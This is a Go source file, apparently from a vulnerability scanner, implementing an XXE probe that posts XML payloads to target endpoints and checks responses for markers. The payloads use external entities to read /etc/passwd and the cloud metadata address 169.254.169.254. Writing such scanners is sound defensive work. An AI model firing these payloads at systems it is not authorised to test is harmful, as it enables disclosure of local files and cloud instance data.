package probes

import (
	"context"
	"fmt"

	"go.uber.org/zap"

	"github.com/ShapezModder/enterprise-security-saas/api/schemas"
	"github.com/ShapezModder/enterprise-security-saas/internal/config"
	"github.com/ShapezModder/enterprise-security-saas/internal/cvss"
)

// External-entity payloads. The file and metadata reads carry markers the
// oracle can recognize in the response body.
var xxePayloads = []string{
	`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`,
	`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/ami-id">]><r>&x;</r>`,
}

var xxeMarkers = []string{"root:x:", "root:*:", "daemon:", "ami-"}

type xxeProbe struct {
	client *client
	cfg    config.ProbesConfig
	log    *zap.Logger
}

func (p *xxeProbe) ID() string { return "xxe" }

// Probe posts DTD payloads as XML to the target and the crawled endpoints.
// A marker from the referenced entity appearing in the response means the
// parser resolved it.
func (p *xxeProbe) Probe(ctx context.Context, tgt Target) ([]schemas.Finding, error) {
	endpoints := append([]string{tgt.BaseURL}, capURLs(tgt.URLs, p.cfg.MaxProbeURLs)...)

	var findings []schemas.Finding
	seen := map[string]struct{}{}
	for _, endpoint := range endpoints {
		if _, dup := seen[endpoint]; dup {
			continue
		}
		seen[endpoint] = struct{}{}

		for _, payload := range xxePayloads {
			req, err := p.client.request(ctx, tgt)
			if err != nil {
				return findings, err
			}
			resp, err := req.
				SetHeader("Content-Type", "application/xml").
				SetBody(payload).
				Post(endpoint)
			if err != nil {
				p.log.Debug("XXE probe request failed", zap.String("url", endpoint), zap.Error(err))
				continue
			}

			marker, hit := containsAny(string(resp.Body()), xxeMarkers)
			if !hit {
				continue
			}
			findings = append(findings, newFinding(tgt, "XXE", cvss.CategoryXXE,
				fmt.Sprintf("XML External Entity processing at %s", endpoint),
				"The endpoint parses XML with external entity resolution enabled, allowing local file and internal network reads.",
				fmt.Sprintf("Response to a DTD payload contained the marker %q.", marker)))
			break
		}
	}
	return findings, nil
}
